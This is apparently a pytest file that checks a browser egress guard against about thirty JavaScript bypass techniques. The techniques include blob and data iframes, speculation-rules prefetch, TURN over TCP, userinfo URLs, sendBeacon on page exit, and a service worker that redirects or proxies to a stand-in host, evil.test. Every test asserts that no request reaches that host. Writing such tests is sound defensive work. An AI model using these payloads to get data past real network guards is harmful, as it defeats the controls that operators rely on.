"""Ways past the guard that are in no list, and what happens when parts of it fail: nothing arrives."""
# ruff: noqa: E501 - a page is easier to read in one line

from __future__ import annotations

import asyncio
from typing import Any

import pytest
from playwright.async_api import Error as PlaywrightError

from browser_tools.chromium import Chromium
from browser_tools.egress.guard import Guard
from browser_tools.errors import NavigationError
from browser_tools.session import SessionOptions
from policies.gate import Gate, Layer
from policies.load import policy_from_mapping

EVIL = "https://evil.test/"
JS = {"content-type": "text/javascript"}
PUBLIC = {"origins": {"allow": ["https://example.com"]}}
LISTED = {**PUBLIC, "network": {"subresources": "listed"}}

TRICKS = {
    "blob-document": f"location.href=URL.createObjectURL(new Blob(['<script>location=\"{EVIL}\"</scr'+'ipt>'],{{type:'text/html'}}))",
    "blob-frame": f"f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(['<script>fetch(\"{EVIL}\",{{mode:\"no-cors\"}});top.location=\"{EVIL}\"</scr'+'ipt>'],{{type:'text/html'}}));document.body.append(f)",
    "data-frame": f"f=document.createElement('iframe');f.src='data:text/html,<img src={EVIL}>';document.body.append(f)",
    "srcdoc-base": f"f=document.createElement('iframe');f.srcdoc='<base href={EVIL}><img src=x>';document.body.append(f)",
    "sandboxed-frame": f"f=document.createElement('iframe');f.sandbox='allow-scripts allow-popups allow-top-navigation';f.srcdoc='<script>open(\"{EVIL}\")</scr'+'ipt>';document.body.append(f)",
    "blank-written": f"w=open('about:blank');w.document.write('<img src={EVIL}>')",
    "blank-then-away": f"w=open('about:blank');w.location='{EVIL}'",
    "noopener-form": f"document.body.innerHTML='<form id=f target=_blank rel=noopener action={EVIL}>';f.submit()",
    "javascript-document": f'location.href=\'javascript:fetch("{EVIL}",{{mode:"no-cors"}})\'',
    "speculation": f"s=document.createElement('script');s.type='speculationrules';s.text=JSON.stringify({{prefetch:[{{urls:['{EVIL}'],requires:['anonymous-client-ip-when-cross-origin']}},{{urls:['{EVIL}1']}}],prerender:[{{urls:['{EVIL}2']}}]}});document.head.append(s)",
    "turn-over-tcp": "pc=new RTCPeerConnection({iceServers:[{urls:['turn:evil.test:443?transport=tcp','turns:evil.test:443'],username:'u',credential:'c'}]});pc.createDataChannel('x');pc.createOffer().then(o=>pc.setLocalDescription(o))",
    "host-with-dot": "fetch('https://evil.test./',{mode:'no-cors'})",
    "other-port": "fetch('https://example.com:8443/',{mode:'no-cors'})",
    "plain-of-listed": "fetch('http://example.com:81/',{mode:'no-cors'})",
    "userinfo": "fetch('https://example.com@evil.test/',{mode:'no-cors'}).catch(()=>0);location.href='https://example.com@evil.test/'",
    "payment-handler": f"try{{new PaymentRequest([{{supportedMethods:'{EVIL}pay'}}],{{total:{{label:'x',amount:{{currency:'EUR',value:'1'}}}}}}).canMakePayment()}}catch(e){{}}",
    "view-transition": f"location.assign('view-source:{EVIL}')",
    "intent": "location.href='intent://evil.test/#Intent;scheme=https;end'",
    "external-protocol": "location.href='mailto:x@evil.test'",
    "manifest": f"l=document.createElement('link');l.rel='manifest';l.href='{EVIL}m.json';document.head.append(l)",
    "icon": f"l=document.createElement('link');l.rel='icon';l.href='{EVIL}i.png';document.head.append(l)",
    "fenced": f"f=document.createElement('fencedframe');try{{f.config=new FencedFrameConfig('{EVIL}')}}catch(e){{}};document.body.append(f)",
    "portal": f"f=document.createElement('portal');f.src='{EVIL}';document.body.append(f)",
    "background-fetch": f"navigator.serviceWorker.register('/quiet.js').then(()=>navigator.serviceWorker.ready).then(r=>r.backgroundFetch.fetch('x',['{EVIL}'])).catch(()=>0)",
    "push": "navigator.serviceWorker.register('/quiet.js').then(()=>navigator.serviceWorker.ready).then(r=>r.pushManager.subscribe({userVisibleOnly:true,applicationServerKey:new Uint8Array(65).fill(4)})).catch(()=>0)",
    "fedcm": f"navigator.credentials&&navigator.credentials.get({{identity:{{providers:[{{configURL:'{EVIL}fedcm.json',clientId:'x'}}]}}}}).catch(()=>0)",
    "xslt": f"x=new DOMParser().parseFromString('<?xml-stylesheet type=\"text/xsl\" href=\"{EVIL}\"?><a/>','text/xml');f=document.createElement('iframe');f.src='/styled.xml';document.body.append(f)",
    "unload-beacon": f"addEventListener('pagehide',()=>navigator.sendBeacon('{EVIL}','d'));location.href='/next'",
}


async def quiet(internet: Any, session: Any) -> None:
    """Long enough for whatever a page has begun."""
    await asyncio.sleep(0.6)


@pytest.mark.parametrize("trick", TRICKS)
async def test_nothing_arrives(behind: Any, internet: Any, trick: str) -> None:
    site = internet.serve("example.com", {
        "/": "<body>here", "/next": "<p>next", "/quiet.js": (200, JS, "0"),
        "/styled.xml": (200, {"content-type": "text/xml"}, f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{EVIL}x.xsl"?><a/>'),
    })  # fmt: skip
    session, _ = await behind(LISTED)
    await session.current.navigate(site)
    await session.current.page.evaluate(f"() => {{ {TRICKS[trick]} }}")
    await quiet(internet, session)
    assert internet.forbidden.arrivals == 0
    assert not any("evil" in host for host in internet.asked)


SERVICE = """
self.addEventListener('install', e => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil((async () => {
    if (self.registration.navigationPreload) await self.registration.navigationPreload.enable();
    await clients.claim();
})()));
self.addEventListener('fetch', e => {
    const url = new URL(e.request.url);
    if (url.pathname === '/moved') e.respondWith(Response.redirect('https://evil.test/'));
    if (url.pathname === '/proxied') e.respondWith(fetch('https://evil.test/', {mode: 'no-cors'}));
    if (url.pathname === '/made') e.respondWith(new Response('<script>location="https://evil.test/"</script>', {headers: {'content-type': 'text/html'}}));
});
"""


@pytest.mark.parametrize("path", ["/moved", "/proxied", "/made"])
async def test_a_service_worker_leads_nowhere_else(behind: Any, internet: Any, path: str) -> None:
    site = internet.serve("example.com", {"/": "<body>here", "/sw.js": (200, JS, SERVICE), path: "<p>server"})
    session, guard = await behind(PUBLIC if path != "/proxied" else LISTED)
    await session.current.navigate(site)
    ready = "() => navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() => new Promise(r => navigator.serviceWorker.controller ? r() : navigator.serviceWorker.addEventListener('controllerchange', r)))"
    await session.current.page.evaluate(ready)
    await session.current.page.evaluate(f"() => {{ location.href = '{path}' }}")
    await quiet(internet, session)
    assert internet.forbidden.arrivals == 0
    assert guard.blocked
    assert not session.current.url.startswith(EVIL)


async def test_a_public_page_that_was_fetched_beforehand_is_left_again(behind: Any, internet: Any) -> None:
    internet.serve("public.test", {"/": "<p>public"})
    site = internet.serve("example.com", {"/": "<body>here"})
    session, guard = await behind(PUBLIC)
    await session.current.navigate(site)
    rules = "{prefetch: [{urls: ['https://public.test/']}]}"
    await session.current.page.evaluate(
        f"() => {{ s = document.createElement('script'); s.type = 'speculationrules'; s.text = JSON.stringify({rules}); document.head.append(s) }}"
    )
    await quiet(internet, session)
    await session.current.page.evaluate("() => { location.href = 'https://public.test/' }")
    await quiet(internet, session)
    assert session.current.url in ("about:blank", f"{site}/")
    assert {one.reason for one in guard.blocked.values()} == {"origin.not_allowed"}


async def test_a_document_that_is_public_is_still_no_page_of_the_run(behind: Any, internet: Any) -> None:
    """Where pages may load from any public host, only the hook tells a document from a picture."""
    internet.serve("public.test", {"/": "<p>public", "/i": (200, {"content-type": "image/gif"}, b"GIF89a")})
    site = internet.serve("example.com", {"/": "<body>here"})
    session, guard = await behind(PUBLIC)
    await session.current.navigate(site)
    for code in ("location='https://public.test/'", "open('https://public.test/')"):
        await session.current.page.evaluate(f"() => {{ {code} }}")
        await quiet(internet, session)
    assert (session.current.url, len(session.tabs)) == (f"{site}/", 1)
    assert {one.reason for one in guard.blocked.values()} == {"origin.not_allowed"}
    assert "public.test" not in internet.asked


async def test_without_its_hook_nothing_gets_out(guarded: Any, internet: Any) -> None:
    """The protocol session that holds documents ends: their guard closes with it."""

    site = internet.serve("example.com", {"/": "<p>here"}, scheme="http")
    gate = Gate([Layer("p", policy_from_mapping({"origins": {"allow": ["http://example.com"]}}, "p"))])
    async with await Chromium.start(guarded=True) as chromium:
        guard = Guard(gate, resolver=internet.resolve, dialler=internet.dial)
        session = await chromium.new_session(SessionOptions(guard=guard))
        await session.current.navigate(site)
        assert chromium._hook is not None
        await chromium._hook._cdp.detach()
        async with asyncio.timeout(5):
            while guard.alive:  # noqa: ASYNC110 - it ends in another thread
                await asyncio.sleep(0.01)
        with pytest.raises(NavigationError):
            await session.current.navigate(site)


async def test_a_context_that_nobody_guards_has_no_way_out(guarded: Any, internet: Any) -> None:
    internet.serve("example.com", {"/": "<p>here"}, scheme="http")
    context = await guarded._browser.new_context()
    page = await context.new_page()
    with pytest.raises(Exception, match="ERR_"):
        await page.goto("http://example.com/", timeout=3000)
    await context.close()
    assert internet.asked == {}


async def test_requests_beside_the_pages_pass_the_proxy_too(behind: Any, internet: Any) -> None:
    """What `search` fetches through the context, by https and, to a machine of ours, by plain http."""
    internet.serve("example.com", {"/q": "found"})
    internet.serve("plain.test", {"/q": "plain"}, scheme="http")
    session, guard = await behind(
        {
            "origins": {"allow": ["https://example.com", "http://plain.test"]},
            "network": {"subresources": "listed"},
        }
    )
    ask = session.context.request
    assert await (await ask.get("http://plain.test/q")).text() == "plain"
    for url in ("https://evil.test/", "http://evil.test/", "http://127.0.0.1:9/", "http://plain.test:81/"):
        try:
            status = (await ask.get(url, timeout=3000)).status
        except PlaywrightError:
            continue
        assert status == 403
    assert internet.forbidden.arrivals == 0
    assert "evil.test" not in internet.asked
    assert guard.blocked


@pytest.mark.parametrize("variable", ["PLAYWRIGHT_DISABLE_FORCED_CHROMIUM_PROXIED_LOOPBACK"])
async def test_no_variable_opens_a_way_past_the_proxy(
    internet: Any, serve: Any, monkeypatch: pytest.MonkeyPatch, variable: str
) -> None:

    hits: list[str] = []
    local = serve({"/": lambda request: hits.append(request.path) or "local"})
    monkeypatch.setenv(variable, "1")
    internet.serve("example.com", {"/": "<p>here"}, scheme="http")
    gate = Gate([Layer("p", policy_from_mapping({"origins": {"allow": ["http://example.com"]}}, "p"))])
    async with await Chromium.start(guarded=True) as chromium:
        guard = Guard(gate, resolver=internet.resolve, dialler=internet.dial)
        session = await chromium.new_session(SessionOptions(guard=guard))
        await session.current.navigate("http://example.com/")
        await session.current.page.evaluate("url => fetch(url, {mode: 'no-cors'}).catch(() => 0)", local)
    assert hits == []
